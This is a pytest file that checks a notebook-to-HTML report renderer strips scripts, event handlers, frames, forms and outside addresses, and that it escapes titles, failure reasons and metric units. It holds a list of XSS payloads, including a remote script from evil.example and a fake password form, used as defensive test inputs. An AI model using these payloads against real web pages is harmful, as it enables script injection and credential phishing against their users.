"""The report: readable by people, harmless to their browsers."""

from datetime import UTC, datetime
from html.parser import HTMLParser
from typing import Any

import nbformat
import pytest

from workbench.runs.schemas import MetricMessage, Status
from workbench.worker import report
from workbench.worker.outcome import Outcome
from workbench.worker.report import Facts

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>go</a>",
    "<a href=' JaVaScRiPt:alert(1)'>go</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>go</a>",
    "[go](javascript:alert(1))",
    "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body { background: url(https://evil.example/x) }</style>",
    "<div style='background:url(https://evil.example/x)' onclick='alert(1)'>x</div>",
    "<video src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p id=x tabindex=1 onfocus=alert(1) autofocus>x</p>",
)
FACTS = Facts("A <b>title</b>", "A <i>tenant</i>", {"<u>": "<s>"}, datetime(2026, 1, 2, tzinfo=UTC))
MAY_STAND = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "aside", "strong"),
    *("p", "div", "dl", "dt", "dd", "pre", "span", "a", "img", "details", "b"),
    *("table", "tbody", "tr", "td"),
}
PNG = "iVBORw0KGgo="


class _Tags(HTMLParser):
    """Collects the tags of a page with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep a tag."""
        self.tags.append((tag, dict(attrs)))


def _page(*cells: nbformat.NotebookNode, outcome: Outcome | None = None) -> str:
    notebook = nbformat.v4.new_notebook(cells=list(cells))
    return report.html(notebook, FACTS, outcome or Outcome(Status.SUCCEEDED))


def _shown(**data: str) -> Any:
    named = {name.replace("_", "/"): value for name, value in data.items()}
    output = nbformat.v4.new_output("display_data", named)
    return nbformat.v4.new_code_cell("secret_code = 1", outputs=[output])


def _harmless(page: str) -> None:
    for tag, attributes in _Tags(page).tags:
        assert tag in MAY_STAND
        assert not any(name.startswith("on") or name == "style" for name in attributes)
        address = attributes.get("href") or attributes.get("src") or ""
        assert not address or address.startswith(("data:image/png", "https://ours.example"))


class TestHtml:
    """The page."""

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_nothing_in_it_acts_or_fetches(self, payload: str) -> None:
        """Markup in outputs and prose keeps no script, handler, frame, form or address."""
        _harmless(_page(_shown(text_html=payload), _shown(text_markdown=payload)))
        _harmless(_page(nbformat.v4.new_markdown_cell(payload)))
        _harmless(_page(_shown(**{"application_javascript": payload, "image_svg+xml": payload})))

    def test_what_is_harmless_stays(self) -> None:
        """Tables, emphasis, links and pictures are shown."""
        link = "<a href='https://ours.example/x'>x</a>"
        page = _page(
            _shown(text_html=f"<table><tr><td><b>1</b></td></tr></table>{link}"),
            _shown(image_png=PNG),
        )

        assert "<td><b>1</b></td>" in page
        assert 'href="https://ours.example/x"' in page
        assert f"data:image/png;base64,{PNG}" in page
        _harmless(page)

    def test_metadata_writes_no_attribute(self) -> None:
        """Only whole numbers become the size of a picture."""
        cell = _shown(image_png=PNG)
        cell.outputs[0].metadata = {"image/png": {"width": "1 onload=alert(1)", "height": 7}}
        cell.metadata["tags"] = ['"><script>']

        page = _page(cell)

        assert "onload" not in page
        assert 'height="7"' in page
        _harmless(page)

    def test_it_shows_no_code_and_no_warning(self) -> None:
        """The reader sees what cells print, not how, nor what is for who mends them."""
        streams = [
            nbformat.v4.new_output("stream", name=name, text=f"on {name}")
            for name in ("stdout", "stderr")
        ]
        page = _page(nbformat.v4.new_code_cell("secret_code = 1", outputs=streams))

        assert "on stdout" in page
        assert "on stderr" not in page
        assert "secret_code" not in page

    def test_it_says_what_went_wrong(self) -> None:
        """A failed run has its reason at the top, as text."""
        page = _page(outcome=Outcome(Status.FAILED, "ValueError: <script>"))

        assert "ValueError: &lt;script&gt;" in page
        assert "A &lt;b&gt;title&lt;/b&gt;" in page
        assert "&lt;u&gt;" in page
        _harmless(page)


class TestMetrics:
    """What a run has measured."""

    def test_what_is_over_its_budget_is_said_first(self) -> None:
        """A sentence before everything else names it, and so does its line in the table."""
        metrics = [
            MetricMessage(name="slow", value=2.345, unit="×", budget=2),
            MetricMessage(name="quick", value=1, unit="<b>", budget=2),
            MetricMessage(name="rows", value=336776),
        ]
        notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Words")])

        page = report.html(notebook, FACTS, Outcome(Status.SUCCEEDED), metrics)

        assert "slow is 2.35 ×, its budget 2." in " ".join(page.split())
        assert page.index("Over budget") < page.index("Words") < page.index("336,776")
        assert page.count("exceeded") == page.count('<tr class="over">') == 1
        assert "<b>" not in page

    def test_without_any_nothing_is_said(self) -> None:
        """A run that measured nothing, or kept every budget, has no such sentence."""
        notebook = nbformat.v4.new_notebook()
        kept = [MetricMessage(name="quick", value=1, budget=1)]
        for metrics in ([], kept):
            page = report.html(notebook, FACTS, Outcome(Status.SUCCEEDED), metrics)
            assert "Over budget" not in page
            assert ("<h2>Metrics</h2>" in page) == bool(metrics)
